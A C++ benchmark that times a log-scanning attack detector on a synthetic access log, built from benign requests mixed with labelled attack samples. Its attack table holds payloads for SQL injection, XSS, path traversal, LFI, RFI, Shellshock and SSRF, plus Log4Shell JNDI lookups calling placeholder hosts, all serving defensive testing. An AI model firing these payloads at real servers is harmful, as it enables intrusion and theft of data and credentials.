// The log scanner on one core: `bench_logscan [--lines N] [--attack-percent P]
// [--write-log FILE] [--write-requests FILE]`.
// Generates a mixed combined-format access log (mostly benign requests, some attacks of every
// class, deterministic), then parses and scans every line several times and reports lines/s
// and MB/s (best pass) and what each class raised. --write-requests writes the same requests
// as `METHOD URI<TAB>User-Agent` lines (and FILE.labels, one class per line) for the
// ModSecurity harness in ../shared/bench/modsec.
#include <fmt/core.h>

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <map>
#include <random>
#include <string>
#include <vector>

#include "logscan/scanner.h"
#include "logscan/signatures.h"

namespace {

using Clock = std::chrono::steady_clock;
using namespace vigil::logscan;

struct Request {
  std::string label;  // "benign" or the class the attack belongs to
  std::string method;
  std::string uri;
  std::string agent;
  int status;
};

struct Template {
  const char* label;
  const char* uri;  // "{n}" becomes a number
  const char* agent;
};

const Template kAttacks[] = {
    {"path_traversal", "/download?file=..%2F..%2F..%2F..%2Fvar%2Fwww%2Fconfig{n}.php", nullptr},
    {"path_traversal", "/static/..%252f..%252f..%252fapp{n}.ini", nullptr},
    {"path_traversal", "/files?name=....//....//....//opt/app/{n}.key", nullptr},
    {"lfi", "/index.php?page=..%2F..%2F..%2Fetc%2Fpasswd&x={n}", nullptr},
    {"lfi", "/view?template=php://filter/convert.base64-encode/resource=index{n}.php", nullptr},
    {"lfi", "/show?f=%2Fproc%2Fself%2Fenviron&id={n}", nullptr},
    {"rfi", "/index.php?page=http://203.0.113.{n}/shell.txt?", nullptr},
    {"sqli", "/products?id={n}%27%20OR%20%271%27%3D%271", nullptr},
    {"sqli",
     "/products?id={n}%20UNION%20ALL%20SELECT%20NULL%2Cusername%2Cpassword%20FROM%20users--",
     nullptr},
    {"sqli", "/item?cat={n}%29%20AND%20SLEEP%285%29%23", nullptr},
    {"xss", "/search?q=%3Cscript%3Ealert%28{n}%29%3C%2Fscript%3E", nullptr},
    {"xss", "/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert%28{n}%29%3E", nullptr},
    {"cmdi", "/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fhostname&n={n}", nullptr},
    {"cmdi", "/cgi-bin/status?x={n}", "() { :;}; /bin/bash -c 'id'"},
    {"log4shell", "/?q={n}", "${jndi:ldap://203.0.113.7:1389/a}"},
    {"log4shell", "/api/v1/login?user=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fx%2F{n}%7D",
     nullptr},
    {"ssrf", "/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F&n={n}", nullptr},
    {"ssrf", "/proxy?target=http://127.0.0.1:6379/{n}", nullptr},
    {"scanner", "/admin/{n}", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000{n})"},
    {"secret_probe", "/.env?{n}", nullptr},
    {"secret_probe", "/.git/config?{n}", nullptr},
};

const char* const kPaths[] = {"/",
                              "/index.html",
                              "/api/v2/items",
                              "/api/v2/items/{n}",
                              "/static/js/app.{n}.min.js",
                              "/static/css/main.css",
                              "/images/products/{n}.jpg",
                              "/search",
                              "/login",
                              "/cart",
                              "/checkout/step/2",
                              "/blog/2026/11/{n}/hello-world",
                              "/users/{n}/profile",
                              "/health",
                              "/api/graphql",
                              "/favicon.ico",
                              "/docs/v1.2/readme.md",
                              "/wp-content/uploads/{n}.png"};
const char* const kQueries[] = {"",
                                "",
                                "",
                                "?page={n}",
                                "?q=red+shoes+size+{n}",
                                "?q=O%27Brien+books",
                                "?sort=-created_at&limit=50",
                                "?utm_source=newsletter&utm_medium=email&utm_campaign=nov{n}",
                                "?next=%2Fdashboard%3Ftab%3Dsettings",
                                "?q=select+a+union+rep",
                                "?redirect=https%3A%2F%2Fexample.com%2F{n}",
                                "?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.sig{n}",
                                "?q=I+%3C3+cats%3B+dogs"};
const char* const kAgents[] = {
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 "
    "Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "curl/8.5.0",
    "python-requests/2.31.0",
    "kube-probe/1.29",
    "Googlebot/2.1 (+http://www.google.com/bot.html)"};

std::string Fill(const char* pattern, unsigned n) {
  std::string out(pattern);
  for (auto at = out.find("{n}"); at != std::string::npos; at = out.find("{n}")) {
    out.replace(at, 3, std::to_string(n));
  }
  return out;
}

std::vector<Request> Generate(std::size_t count, double attack_percent) {
  std::mt19937 rng(20261127);
  std::uniform_real_distribution<double> unit(0, 1);
  std::vector<Request> out;
  out.reserve(count);
  for (std::size_t i = 0; i < count; ++i) {
    const unsigned n = rng() % 100000;
    if (unit(rng) * 100 < attack_percent) {
      const Template& t = kAttacks[rng() % std::size(kAttacks)];
      out.push_back({t.label, "GET", Fill(t.uri, n), t.agent ? Fill(t.agent, n) : kAgents[0],
                     rng() % 2 ? 200 : 404});
    } else {
      std::string uri = Fill(kPaths[rng() % std::size(kPaths)], n) +
                        Fill(kQueries[rng() % std::size(kQueries)], n);
      out.push_back({"benign", rng() % 10 ? "GET" : "POST", uri,
                     kAgents[rng() % std::size(kAgents)], rng() % 20 ? 200 : 304});
    }
  }
  return out;
}

std::string LogLine(const Request& r, std::size_t i) {
  return fmt::format(
      "10.{}.{}.{} - - [27/Nov/2026:10:{:02}:{:02} +0000] \"{} {} HTTP/1.1\" {} {} \"-\" \"{}\"",
      i % 200, (i / 200) % 250, i % 250 + 1, (i / 60) % 60, i % 60, r.method, r.uri, r.status,
      300 + i % 5000, r.agent);
}

// Best of 3 passes over `lines`; what each class raised (first pass).
void Measure(const SignatureSet& signatures, const std::vector<Request>& requests,
             const std::vector<std::string>& lines, std::size_t bytes, double attack_percent) {
  Scanner scanner(signatures);
  double best = 1e9;
  std::map<std::string, std::pair<uint64_t, uint64_t>> by_label;  // label -> (lines, detected)
  uint64_t false_alarms = 0;
  for (int pass = 0; pass < 3; ++pass) {
    const auto start = Clock::now();
    for (std::size_t i = 0; i < lines.size(); ++i) {
      const auto findings = scanner.ScanLine(lines[i]);
      if (pass > 0) continue;
      auto& [n, detected] = by_label[requests[i].label];
      ++n;
      bool hit = false;
      for (const Finding& f : findings) hit = hit || f.attack->name == requests[i].label;
      detected += hit ? 1 : 0;
      if (requests[i].label == "benign" && !findings.empty()) ++false_alarms;
    }
    best = std::min(best, std::chrono::duration<double>(Clock::now() - start).count());
  }
  fmt::print(
      "logscan: {} lines ({:.1f} MB, {:.1f}% attacks), best of 3 passes on one core: "
      "{:.3f} s = {:.0f} lines/s, {:.1f} MB/s\n",
      lines.size(), bytes / 1e6, attack_percent, best, lines.size() / best, bytes / 1e6 / best);
  for (const auto& [label, counts] : by_label) {
    if (label == "benign") continue;
    fmt::print("  {:<15} {:>7} lines, {:>7} raised by their class ({:.1f}%)\n", label, counts.first,
               counts.second, 100.0 * counts.second / counts.first);
  }
  fmt::print("  {:<15} {:>7} lines, {:>7} false alarms\n", "benign", by_label["benign"].first,
             false_alarms);
}

}  // namespace

int main(int argc, char** argv) {
  std::size_t count = 1000000;
  double attack_percent = 2.0;
  std::string log_path, requests_path;
  for (int i = 1; i + 1 < argc; i += 2) {
    if (!std::strcmp(argv[i], "--lines")) count = std::stoul(argv[i + 1]);
    if (!std::strcmp(argv[i], "--attack-percent")) attack_percent = std::stod(argv[i + 1]);
    if (!std::strcmp(argv[i], "--write-log")) log_path = argv[i + 1];
    if (!std::strcmp(argv[i], "--write-requests")) requests_path = argv[i + 1];
  }
  auto signatures = SignatureSet::BuiltIn();
  if (!signatures) {
    fmt::print(stderr, "{}\n", signatures.error().message);
    return 1;
  }
  const std::vector<Request> requests = Generate(count, attack_percent);
  std::vector<std::string> lines;
  std::size_t bytes = 0;
  for (std::size_t i = 0; i < requests.size(); ++i) {
    lines.push_back(LogLine(requests[i], i));
    bytes += lines.back().size() + 1;
  }
  if (!log_path.empty()) {
    std::ofstream out(log_path);
    for (const auto& l : lines) out << l << '\n';
  }
  if (!requests_path.empty()) {
    std::ofstream out(requests_path), labels(requests_path + ".labels");
    for (const auto& r : requests) {
      out << r.method << ' ' << r.uri << '\t' << r.agent << '\n';
      labels << r.label << '\n';
    }
  }
  Measure(*signatures, requests, lines, bytes, attack_percent);
  return 0;
}
